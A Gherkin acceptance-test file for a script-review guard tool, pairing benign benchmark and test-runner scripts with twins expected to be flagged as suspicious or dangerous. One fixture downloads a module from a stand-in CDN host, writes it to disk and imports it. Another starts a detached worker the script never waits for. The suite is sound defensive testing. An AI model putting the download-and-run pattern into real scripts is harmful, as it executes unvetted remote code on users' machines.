@script-review
Feature: script pre-review knows a module file by its fixed name and a child the script waits for
  A benchmark loads `dist/codec.js` from each tree it is given: only the directory is computed,
  the file's name is fixed in the script, so it is that file and not a module hidden behind a
  computed name. A test runner starts its child in a session of its own so that Ctrl-C reaches
  the script first, and waits for it: nothing of it outlives the run. Each benign form has its
  twin beside it: a file name computed too, a download written there and loaded, or a child in
  its own session that the script never waits for stays flagged.

  Scenario: a module file of a fixed name in a directory given on the command line is that file
    Given a project file "bench.js" containing:
      """
      const path = require('path');

      function loadCodec(tree) {
        return require(path.join(tree, 'dist', 'codec.js'));
      }

      for (const tree of process.argv.slice(2)) {
        const codec = loadCodec(tree);
        const t0 = Date.now();
        codec.encode('x'.repeat(1 << 20));
        console.log(`${tree}: ${Date.now() - t0} ms`);
      }
      """
    When I run "terraphim-agent guard review-script --json bench.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a module whose file name is computed too is still a hidden module name
    Given a project file "bench_any.js" containing:
      """
      const path = require('path');

      function loadCodec(tree, name) {
        return require(path.join(tree, 'dist', name));
      }

      const codec = loadCodec(process.argv[2], process.argv[3]);
      console.log(codec.encode('x'));
      """
    When I run "terraphim-agent guard review-script --json bench_any.js"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "obfuscated-execution"

  Scenario: a download written under a fixed name and loaded from there is still run
    Given a project file "boot.js" containing:
      """
      const fs = require('fs');
      const path = require('path');

      async function main(dir) {
        const res = await fetch('https://cdn.widgets.example.net/boot.mjs');
        fs.writeFileSync(path.join(dir, 'boot.mjs'), await res.text());
        await import(path.join(dir, 'boot.mjs'));
      }

      main(process.argv[2]);
      """
    When I run "terraphim-agent guard review-script --json boot.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "remote-code"

  Scenario: a child in a session of its own that the script waits for is a process of the run
    Given a project file "run_tests.py" containing:
      """
      import subprocess
      import sys

      proc = subprocess.Popen(["cargo", "test", "--quiet"], start_new_session=True)
      try:
          code = proc.wait()
      except KeyboardInterrupt:
          proc.terminate()
          code = proc.wait()
      sys.exit(code)
      """
    When I run "terraphim-agent guard review-script --json run_tests.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a child in a session of its own that the script never waits for still outlives it
    Given a project file "start_worker.py" containing:
      """
      import subprocess

      helper = subprocess.Popen(["sleep", "1"])
      proc = subprocess.Popen(["cargo", "run", "--bin", "worker"], start_new_session=True)
      print("worker started", proc.pid)
      helper.wait()
      """
    When I run "terraphim-agent guard review-script --json start_worker.py"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "escape"

  Scenario: a long argv turned into text element by element keeps its program
    Given a project file "bench_cli.py" containing:
      """
      import subprocess


      def run(argv, **kw):
          print("$", " ".join(str(a) for a in argv))
          return subprocess.run([str(a) for a in argv], check=True, **kw)


      argv = ["hyperfine", "--warmup", "2", "--runs", "10", "--shell=none",
              "--export-json", "build/bench.json"]
      for name in ("small", "large"):
          argv += ["--command-name", name, f"build/cli compress tests/{name}.bin"]
      run(argv)
      """
    When I run "terraphim-agent guard review-script --json bench_cli.py"
    Then the JSON field "verdict" is "clean"

  Scenario: the same long argv whose program comes from the command line is still unknown
    Given a project file "bench_any.py" containing:
      """
      import subprocess
      import sys


      def run(argv, **kw):
          return subprocess.run([str(a) for a in argv], check=True, **kw)


      argv = [sys.argv[1], "--warmup", "2", "--runs", "10", "--shell=none",
              "--export-json", "build/bench.json"]
      for name in ("small", "large"):
          argv += ["--command-name", name, f"build/cli compress tests/{name}.bin"]
      run(argv)
      """
    When I run "terraphim-agent guard review-script --json bench_any.py"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "remote-code"

  Scenario: the project's dependency command in a top level known only at run time is that command
    Given a project file "jest_cache.ts" containing:
      """
      import { execFileSync, spawnSync } from 'node:child_process';
      import * as path from 'node:path';

      const ROOT = execFileSync('git', ['rev-parse', '--show-toplevel'], { encoding: 'utf8' }).trim();
      const jest = path.join(ROOT, 'node_modules', '.bin', 'jest');
      const res = spawnSync(jest, ['--showConfig'], { cwd: ROOT, encoding: 'utf8' });
      const m = /"cacheDirectory":\s*"([^"]+)"/.exec(res.stdout ?? '');
      console.log(`jest cache: ${m ? m[1] : 'unknown'}`);
      """
    When I run "terraphim-agent guard review-script --json jest_cache.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: a program of another name in another directory of that top level is still unknown
    Given a project file "tool_run.ts" containing:
      """
      import { execFileSync, spawnSync } from 'node:child_process';
      import * as path from 'node:path';

      const ROOT = execFileSync('git', ['rev-parse', '--show-toplevel'], { encoding: 'utf8' }).trim();
      const tool = path.join(ROOT, 'tools', 'bin', 'relay-helper');
      spawnSync(tool, ['--check'], { cwd: ROOT, stdio: 'inherit' });
      """
    When I run "terraphim-agent guard review-script --json tool_run.ts"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "remote-code"
